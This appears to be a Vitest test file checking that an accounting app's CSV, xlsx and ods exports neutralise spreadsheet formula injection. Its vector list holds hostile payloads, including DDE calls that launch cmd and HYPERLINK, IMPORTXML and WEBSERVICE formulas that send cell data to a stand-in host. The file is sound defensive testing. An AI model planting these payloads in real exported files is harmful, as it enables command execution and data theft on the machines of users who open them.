import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { cents } from "@/domain/shared/money";
import { reRead } from "@/test-support/re-read";
import { toCsv } from "./csv";
import type { ExportTable } from "./export-table";
import { toOpenDocument } from "./opendocument";
import { toWorkbook } from "./workbook";

const VECTORS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://exemple.fr?x="&A1;"Voir")',
  '=IMPORTXML(CONCAT("http://exemple.fr?"; A1); "//a")',
  '=WEBSERVICE("http://exemple.fr")',
  '=DDE("cmd";"/C calc";"!A0")',
  "+1+1",
  "+33 4 66 00 00 00",
  "-1+1",
  "-20 % de remise",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@nom",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "'=1+1",
  '";=1+1',
  ",=1+1",
];
const table: ExportTable = {
  slug: "vecteurs",
  title: "Vecteurs",
  columns: [
    { header: "=Entête", kind: "text" },
    { header: "Montant (€)", kind: "euros" },
    { header: "Tiers", kind: "text" },
  ],
  rows: VECTORS.map((vector, rank) => [vector, cents(-1 - rank), vector]),
  totals: null,
  notes: VECTORS,
};
const RUN = /^[=+\-@\t\r\n＝＋－＠]/;

test.each(["FRENCH", "RFC_4180"] as const)(
  "no text of a CSV (%s) is a formula, and numbers stay numbers",
  (dialect) => {
    const rows = parse(toCsv(table, null, dialect), {
      bom: true,
      delimiter: dialect === "FRENCH" ? ";" : ",",
      record_delimiter: "\r\n",
    });
    expect(rows).toHaveLength(VECTORS.length + 1);
    for (const [rank, [first, amount, third]] of rows.slice(1).entries()) {
      expect([first, third].filter((cell) => RUN.test(cell ?? ""))).toEqual([]);
      expect(String(first).replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, "")).toBe(VECTORS[rank]);
      expect(Number(String(amount).replace(",", "."))).toBe((-1 - rank) / 100);
    }
  },
);

test.each([
  ["xlsx", toWorkbook],
  ["ods", toOpenDocument],
] as const)(
  "every text of a workbook (%s) is read back as a text, to the letter, and none computes",
  async (format, write) => {
    const { rows, formulas } = await reRead(
      format,
      await write(
        table,
        VECTORS.map((vector) => ["Filtre", vector] as const),
      ),
    );
    expect(formulas).toEqual([]);
    expect(rows[0]).toEqual(["=Entête", "Montant (€)", "Tiers"]);
    const lines = (text: unknown) =>
      String(text)
        .replaceAll("\r", "\n")
        .replaceAll("\t", format === "ods" ? " " : "\t");
    for (const [rank, vector] of VECTORS.entries()) {
      const [first, amount, third] = rows[rank + 1] ?? [];
      expect([lines(first), lines(third)]).toEqual([lines(vector), lines(vector)]);
      expect(amount).toBe((-1 - rank) / 100);
    }
  },
);
